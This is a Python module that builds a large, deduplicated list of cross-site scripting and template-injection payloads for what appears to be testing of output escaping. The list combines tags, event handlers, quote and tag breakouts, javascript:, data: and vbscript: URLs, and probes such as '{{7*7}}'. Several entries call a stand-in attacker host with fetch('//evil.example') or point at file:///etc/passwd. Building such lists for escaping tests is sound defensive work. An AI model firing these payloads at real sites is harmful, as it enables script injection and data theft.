"""Strings that would run, were they not escaped: every tag, event, address and way out of quotes with each other."""

from itertools import product

CALLS = ("alert(1)", "confirm`1`", "top['al'+'ert'](1)", "fetch('//evil.example')", "window.name=document.title")
EVENTS = ("onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle", "onbegin", "onanimationend", "onmouseover")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input",
    "details open",
    "video src=x",
    "iframe",
    "math",
    "marquee",
    "style",
    "audio",
)
OUT_OF = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</a>",
    "</title>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "</script>",
    "{{",
    "{%",
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript://https://www.npr.org/%0a{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{}",
    'https://www.npr.org/" onmouseover="{}',
    "https://www.npr.org/'onfocus='{}' autofocus='",
    "https://www.npr.org/><script>{}</script>",
    "https://[{}",
    "//evil.example/{}",
    "file:///etc/passwd#{}",
)
TEMPLATES = (
    "{{{{7*7}}}}",
    "{{% for x in figures %}}{}{{% endfor %}}",
    "{{{{ ''.__class__ }}}}",
    "${{{}}}",
    "<%= {} %>",
)


def vectors() -> list[str]:
    """All of them, each once, in the same order every time."""
    made = [f"{out}<{tag} {event}={call}>" for out, tag, event, call in product(OUT_OF[:7], TAGS, EVENTS, CALLS[:3])]
    made += [f"{out}<script>{call}</script>" for out, call in product(OUT_OF, CALLS)]
    made += [f"{out} {event}={call} x=" for out, event, call in product(OUT_OF[:5], EVENTS, CALLS)]
    made += [f"{out}<a href='{address.format(call)}'>" for out, address, call in product(OUT_OF[:4], ADDRESSES, CALLS)]
    made += [template.format(call) for template, call in product(TEMPLATES, CALLS)]
    made += [f"&lt;script&gt;{call}&lt;/script&gt;" for call in CALLS]
    return list(dict.fromkeys(made))


def addresses() -> list[str]:
    """Those that are URLs."""
    return [address.format(call) for address, call in product(ADDRESSES, CALLS)]
